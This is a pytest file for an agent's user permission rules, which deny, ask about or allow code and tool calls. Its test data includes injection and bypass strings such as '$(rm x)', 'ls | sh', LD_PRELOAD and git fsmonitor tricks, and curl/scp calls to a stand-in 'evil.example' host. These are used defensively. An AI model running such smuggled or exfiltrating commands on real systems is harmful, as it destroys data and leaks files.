"""The user's rules: deny, then ask, then allow; checked by their own examples."""

import pytest

from interpreter.policies.rules import load_rules, parse_rules
from interpreter.protocol.actions import Verdict
from interpreter.protocol.errors import ConfigurationError
from interpreter.protocol.messages import ActionCall, Code

RULES = parse_rules("""
[[rule]]
decision = "allow"
command = ["git status", "ls"]

[[rule]]
decision = "ask"
command = "git push"
reason = "pushing is for people"
matches = ["git push origin main", "cd x && git push", "sudo git push"]
passes = ["git status", "echo git push"]

[[rule]]
decision = "deny"
path = "~/taxes/**"
reason = "not my taxes"

[[rule]]
decision = "deny"
host = ["*.evil.example", "evil.example"]

[[rule]]
decision = "ask"
language = "javascript"

[[rule]]
decision = "deny"
tool = "send_mail"
""")


def ruling(action):
    verdict = RULES.verdict(action)
    return verdict and verdict.ruling


@pytest.mark.parametrize(
    ("action", "expected"),
    [
        (Code("bash", "git status"), "allow"),
        (Code("bash", "ls -l && git status -s"), "allow"),
        (Code("bash", "git status; rm x"), None),
        (Code("bash", "git status $(rm x)"), None),
        (Code("bash", "sudo git status"), None),
        (Code("bash", "git push -f"), "ask"),
        (Code("python", "import os; os.system('git push')"), "ask"),
        (Code("python", "import subprocess as s; s.run(['git', 'push'])"), "ask"),
        (Code("python", "!git push"), "ask"),
        (Code("python", "open('/home/x/other')"), None),
        (Code("shell", "cat ~/taxes/2024/a.pdf"), "deny"),
        (Code("shell", "cat < ~/taxes/a.pdf"), "deny"),
        (Code("python", "open('~/taxes/a.pdf')"), "deny"),
        (Code("shell", "ls ~/taxes-old"), "allow"),
        (Code("shell", "curl https://a.evil.example/x"), "deny"),
        (Code("shell", "scp a ann@evil.example:/"), "deny"),
        (Code("shell", "curl https://notevil.example/x"), None),
        (Code("js", "1 + 1"), "ask"),
        (ActionCall("send_mail", "{}"), "deny"),
        (ActionCall("browse", '{"url": "https://evil.example/"}'), "deny"),
        (ActionCall("browse", "{}"), None),
    ],
)
def test_rules_rule(action, expected):
    assert ruling(action) == expected


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("python", "import subprocess\nsubprocess.run(['git', 'status'])"),
        ("python", "import os, shutil\nos.system('git status')\nshutil.rmtree('src')"),
        ("python", "!git status"),
        ("javascript", "require('child_process').execSync('git status')"),
        ("shell", "ls > src/main.py"),
        ("shell", "ls >> src/main.py"),
        ("shell", "ls 2> src/main.py"),
        ("shell", "ls >| src/main.py"),
        ("shell", "LD_PRELOAD=./x.so ls"),
        ("shell", "PATH=.:$PATH ls"),
        ("shell", "ls $(rm x)"),
        ("shell", "ls `rm x`"),
        ("shell", 'ls "$(rm x)"'),
        ("shell", "ls <(rm x)"),
        ("shell", "ls < file"),
        ("shell", "ls <<END\n$(rm x)\nEND"),
        ("shell", "ls <<< x"),
        ("shell", "ls() { rm x; }; ls"),
        ("shell", "alias ls=rm; ls"),
        ("shell", "ls *"),
        ("shell", "ls {--color,x}"),
        ("shell", "ls $x"),
        ("shell", "ls ${x@P}"),
        ("shell", "ls &"),
        ("shell", "(ls)"),
        ("shell", "{ ls; }"),
        ("shell", "! ls"),
        ("shell", "if ls; then ls; fi"),
        ("shell", "x=1\nls"),
        ("shell", "x='a[$(rm x)]' ls"),
        ("shell", "ls; rm x"),
        ("shell", "ls | sh"),
        ("shell", "ls && rm x"),
        ("shell", "ls\rrm x"),
        ("shell", "ls\x0crm x"),
        ("shell", "ls \u00a0; rm x"),
        ("shell", "ls # $(rm x)"),
        ("shell", "ls \\\n; rm x"),
        ("shell", "./ls"),
        ("shell", "/tmp/ls"),
        ("shell", "env ls"),
        ("shell", "command ls"),
        ("shell", "sudo ls"),
        ("shell", "xargs ls"),
        ("shell", "git -c core.fsmonitor=./x status"),
        ("shell", "git --git-dir=x status"),
        ("shell", "git diff --output=src/main.py"),
        ("shell", "git diff --ext-diff"),
        ("shell", "find . -delete"),
        ("shell", "find . -exec rm {} +"),
        ("shell", "[[ -v a[$(rm x)] ]] && ls"),
        ("shell", "ls $((x[$(rm x)]))"),
        ("shell", "ls !(x)"),
        ("shell", "ls 'unclosed"),
        ("shell", "time ls"),
        ("shell", "coproc ls"),
    ],
)
def test_an_allowed_command_allows_nothing_beside_it(language, source):
    command = '["git status", "git diff", "ls", "find"]'
    rules = parse_rules(f'[[rule]]\ndecision = "allow"\ncommand = {command}')
    assert rules.verdict(Code(language, source)) is None


@pytest.mark.parametrize(
    "source",
    [
        "ls",
        "ls -la src",
        "git status --short",
        "git status\nls",
        "# what is there\nls -l",
        "ls src/*.py",
        "ls ~/project",
        "ls 'a file' \"another file\"",
        "git diff HEAD~1 -- src/a.py",
        "git diff --stat | ls",
        "find . -name '*.py'",
        "git status && ls || git diff;",
    ],
)
def test_what_is_all_allowed_commands_is_allowed(source):
    command = '["git status", "git diff", "ls", "find"]'
    rules = parse_rules(f'[[rule]]\ndecision = "allow"\ncommand = {command}')
    assert rules.verdict(Code("bash", source)) == Verdict("allow", "a rule of yours says allow")


def test_paths_and_hosts_allow_no_code_by_themselves():
    rules = parse_rules("""
    [[rule]]
    decision = "allow"
    path = "data/**"
    [[rule]]
    decision = "allow"
    host = "example.com"
    [[rule]]
    decision = "allow"
    command = "cat"
    path = "data/**"
    """)
    assert rules.verdict(Code("python", "open('data/x', 'w'); __import__('os').system(y)")) is None
    assert rules.verdict(Code("shell", "curl https://example.com")) is None
    assert rules.verdict(Code("shell", "cat data/x")).ruling == "allow"
    assert rules.verdict(Code("shell", "cat data/x secret")) is None
    assert rules.host_verdict("example.com").ruling == "allow"


def test_deny_comes_before_ask_before_allow_whatever_the_order():
    assert ruling(Code("bash", "git status; git push; cat ~/taxes/x")) == "deny"
    assert ruling(Code("bash", "git push; git status")) == "ask"


def test_the_reason_is_told():
    assert RULES.verdict(Code("sh", "git push")) == Verdict("ask", "pushing is for people")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("nonsense", "not TOML"),
        ('[[rule]]\ndecision = "maybe"\ntool = "x"', "decision must be"),
        ('[[rule]]\ndecision = "deny"', "say what it is about"),
        ('[[rule]]\ndecision = "deny"\ntol = "x"', "unknown key 'tol'"),
        ('[[rule]]\ndecision = "deny"\ntool = 3', "tool must be a text"),
        ("[other]\na = 1", "only"),
        ('rule = "x"', "only"),
        (
            '[[rule]]\ndecision = "ask"\ncommand = "git push"\nmatches = ["git pull"]',
            "does not match its own example 'git pull'",
        ),
        (
            '[[rule]]\ndecision = "ask"\ncommand = "git"\npasses = ["git pull"]',
            "matches its own example 'git pull'",
        ),
    ],
)
def test_a_mistake_is_an_error_that_names_the_rule(text, message):
    with pytest.raises(ConfigurationError, match=message):
        parse_rules(text)


def test_a_missing_file_has_no_rules_and_an_unreadable_one_is_an_error(tmp_path):
    assert load_rules(tmp_path / "rules.toml").rules == ()
    (tmp_path / "rules.toml").write_bytes(b"\xff\xfe")
    with pytest.raises(ConfigurationError, match="cannot be read"):
        load_rules(tmp_path / "rules.toml")


@pytest.mark.parametrize(
    ("tool", "ruling"),
    [("computer.mouse.click", "deny"), ("computer.mouse", None), ("computer.mousetrap.set", None)],
)
def test_a_rule_about_all_functions_below_a_name(tool, ruling):
    rules = parse_rules('[[rule]]\ndecision = "deny"\ntool = "computer.mouse.*"')
    verdict = rules.verdict(ActionCall(tool, "{}"))
    assert (verdict and verdict.ruling) == ruling
